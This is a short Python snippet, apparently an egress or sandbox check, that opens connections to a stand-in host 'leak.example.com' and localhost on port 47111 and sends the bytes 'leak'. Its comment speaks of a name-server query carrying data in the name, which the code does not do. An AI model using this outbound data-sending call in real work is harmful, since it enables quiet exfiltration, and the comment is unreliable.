# Asks a name server, which carries data in the name.
import socket
for host in ('leak.example.com', 'localhost'):
    try:
        socket.create_connection((host, 47111), 1).sendall(b'leak')
    except OSError as error:
        print(error)
